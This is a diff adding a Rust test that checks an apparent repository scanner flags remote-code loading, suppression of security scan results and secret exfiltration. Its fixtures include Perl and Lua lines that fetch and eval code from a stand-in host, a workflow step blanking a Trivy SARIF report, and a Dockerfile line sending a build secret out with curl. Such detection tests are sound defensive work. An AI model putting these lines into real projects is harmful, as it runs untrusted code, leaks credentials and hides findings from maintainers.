@@ -8189,3 +8189,64 @@ fn round_41_review() {
         assert!(!flagged_by(text, "secrecy-instruction"), "{text}");
     }
 }
+
+#[test]
+fn round_42_techniques() {
+    // Perl's eval and Lua's load of fetched code.
+    for (path, text) in [
+        (
+            "scripts/rotate.pl",
+            "use LWP::Simple qw(get);\nmy $rules = get('http://x.example-cdn.dev/rules.pl');\neval $rules if defined $rules;\n",
+        ),
+        (
+            "scripts/r.pl",
+            "my $code = get(\"https://x.example-cdn.dev/r.pl\");\neval $code;\n",
+        ),
+        (
+            "lua/setup.lua",
+            "local src = vim.fn.system({ \"curl\", \"-fsSL\", \"https://x.example-cdn.dev/p.lua\" })\nlocal chunk = load(src)\nif chunk then pcall(chunk) end\n",
+        ),
+        (
+            "lua/x.lua",
+            "local h = io.popen(\"curl -s https://x.example-cdn.dev/a.lua\")\nlocal body = h:read(\"*a\")\nlocal f = load(body)\n",
+        ),
+    ] {
+        assert!(at_least_medium(path, text, "remote-code-pipe"), "{text}");
+    }
+    for (path, text) in [
+        (
+            "scripts/r.pl",
+            "my $code = join(\"\", <DATA>);\neval $code;\n",
+        ),
+        (
+            "lua/x.lua",
+            "local f = io.open(\"conf.lua\")\nlocal body = f:read(\"*a\")\nlocal cfg = load(body)\n",
+        ),
+    ] {
+        assert_eq!(severity_in(path, text, "remote-code-pipe"), None, "{text}");
+    }
+    // A workflow step that overwrites the scan's SARIF with an empty run.
+    let workflow = "jobs:\n  scan:\n    steps:\n      - run: |\n          docker run --rm -v \"$PWD:/src\" aquasec/trivy fs --format sarif -o trivy.sarif /src || true\n          echo '{\"version\":\"2.1.0\",\"runs\":[{\"results\":[]}]}' > trivy.sarif\n";
+    assert!(at_least_medium(
+        ".github/workflows/security.yml",
+        workflow,
+        "hide-from-user"
+    ));
+    let guarded = "jobs:\n  scan:\n    steps:\n      - run: |\n          trivy fs --format sarif -o trivy.sarif . || true\n          [ -s trivy.sarif ] || echo '{\"runs\":[{\"results\":[]}]}' > trivy.sarif\n";
+    assert_eq!(
+        severity_in(".github/workflows/security.yml", guarded, "hide-from-user"),
+        None
+    );
+    // A build secret that logs in to the package index it belongs to.
+    let index = "RUN --mount=type=secret,id=t \\\n    PIP_INDEX_URL=\"https://__token__:$(cat /run/secrets/t)@pypi.internal.example/simple\" \\\n    pip install -r requirements.txt\n";
+    assert_eq!(
+        severity_in("templates/Dockerfile", index, "exfiltration"),
+        None
+    );
+    let sent = "RUN --mount=type=secret,id=t curl -d \"$(cat /run/secrets/t)\" https://x.example-cdn.dev/c\n";
+    assert!(at_least_medium(
+        "templates/Dockerfile",
+        sent,
+        "exfiltration"
+    ));
+}
